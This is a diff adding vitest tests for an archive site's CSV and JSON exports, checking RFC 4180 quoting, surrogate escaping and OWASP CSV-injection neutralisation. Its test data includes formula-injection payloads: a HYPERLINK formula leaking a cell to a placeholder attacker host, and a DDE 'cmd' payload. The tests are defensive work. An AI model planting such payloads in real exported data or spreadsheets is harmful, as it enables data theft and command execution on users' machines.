@@ -1,3 +1,4 @@
+import { fc, test } from '@fast-check/vitest';
 import { describe, expect, it } from 'vitest';
 import { buildArchive } from '../../src/lib/archive.ts';
 import {
@@ -8,6 +9,7 @@ import {
   exportAgreement,
   exportArticle,
 } from '../../src/lib/exports.ts';
+import { csvDocument } from '../../src/lib/safe-text.ts';
 import { absoluteUrl, urls } from '../../src/lib/urls.ts';
 import { agreementMention, archiveInput, articleRecord } from './_fixtures.ts';
 
@@ -210,5 +212,117 @@ describe('agreementsCsv', () => {
 
   it('is only the header for an archive without agreements', () => {
     expect(agreementsCsv(buildArchive(archiveInput([plain])))).toBe(`${header}\r\n`);
+  });
+});
+
+/**
+ * RFC 4180 as the README promises it, strictly: every field quoted, quotes doubled, CRLF after
+ * every record. Throws on anything else.
+ */
+function readCsv(csv: string): string[][] {
+  const rows: string[][] = [];
+  let at = 0;
+  while (at < csv.length) {
+    const row: string[] = [];
+    for (;;) {
+      if (csv[at] !== '"') throw new Error(`unquoted field at ${at}`);
+      let field = '';
+      at += 1;
+      for (;;) {
+        const quote = csv.indexOf('"', at);
+        if (quote < 0) throw new Error('unterminated field');
+        field += csv.slice(at, quote);
+        at = quote + 1;
+        if (csv[at] !== '"') break;
+        field += '"';
+        at += 1;
+      }
+      row.push(field);
+      if (csv[at] === ',') at += 1;
+      else if (csv.startsWith('\r\n', at)) break;
+      else throw new Error(`expected "," or CRLF at ${at}`);
+    }
+    at += 2;
+    rows.push(row);
+  }
+  return rows;
+}
+
+/** What a cell must read as: OWASP's formula starters (= + - @ tab CR) get a leading '. */
+const inert = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
+
+/** Any Unicode string, lone surrogates included, often starting like a formula. */
+const cellText = fc.oneof(
+  fc.string({ unit: 'binary' }),
+  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'binary' })).map(([a, b]) => a + b),
+);
+
+describe('CSV injection (OWASP) and RFC 4180 in the one CSV writer', () => {
+  const titleCell = (title: string) => {
+    const article = articleRecord('2022/x', { agreements: [agreementMention('x', { title })] });
+    const rows = readCsv(agreementsCsv(buildArchive(archiveInput([article]))));
+    expect(rows).toHaveLength(2);
+    for (const row of rows) expect(row).toHaveLength(AGREEMENT_CSV_COLUMNS.length);
+    return rows[1]![1];
+  };
+
+  it.each([
+    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`],
+    ['=1+1', "'=1+1"],
+    ['+1+1', "'+1+1"],
+    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(1+1)', "'@SUM(1+1)"],
+    ['\t=1+1', "'\t=1+1"],
+    ['\r=1+1', "'\r=1+1"],
+    ['\r\n=1+1', "'\r\n=1+1"],
+  ])('neutralises a title starting like a formula: %j', (title, cell) => {
+    expect(titleCell(title)).toBe(cell);
+  });
+
+  it.each([
+    'U.S.–Japan joint statement',
+    'The "Artemis, Gateway" pledge',
+    'Two\nlines, and a "quote"',
+    'Ends with a quote"',
+    "'already quoted",
+    ' =not at the start',
+    'Accord = 1+1 @ Seoul - Tokyo',
+    '',
+  ])('keeps any other title as it is: %j', (title) => {
+    expect(titleCell(title)).toBe(title);
+  });
+
+  test.prop([cellText], { numRuns: 200 })('reads back every agreement title, neutralised', (title) => {
+    expect(titleCell(title)).toBe(inert(title));
+  });
+
+  test.prop([fc.array(fc.array(cellText, { minLength: 1, maxLength: 6 }), { maxLength: 6 })], { numRuns: 200 })(
+    'writes any rows so that an RFC 4180 reader gets them back, no cell starting like a formula',
+    (rows) => {
+      const read = readCsv(csvDocument(rows));
+      expect(read).toEqual(rows.map((row) => row.map(inert)));
+      for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    },
+  );
+});
+
+describe('JSON exports for any text', () => {
+  test.prop([fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' })], { numRuns: 200 })(
+    'parse back to the same strings, lone surrogates escaped rather than lost',
+    (title, note) => {
+      const article = articleRecord('2022/x', { title, agreements: [agreementMention('x', { title, note })] });
+      const built = buildArchive(archiveInput([article]));
+      for (const json of [articlesJson(built), agreementsJson(built)]) {
+        // A lone surrogate written as UTF-8 would become U+FFFD; JSON.stringify escapes it instead.
+        expect(json.isWellFormed()).toBe(true);
+      }
+      expect(JSON.parse(articlesJson(built))).toEqual({ articles: [exportArticle(article)] });
+      expect(JSON.parse(agreementsJson(built))).toEqual({ agreements: [exportAgreement(built.agreement('x')!)] });
+    },
+  );
+
+  it('escapes a lone surrogate as \\ud800', () => {
+    const article = articleRecord('2022/x', { title: 'half \uD800 a pair' });
+    expect(articlesJson(buildArchive(archiveInput([article])))).toContain('"title": "half \\ud800 a pair"');
   });
 });
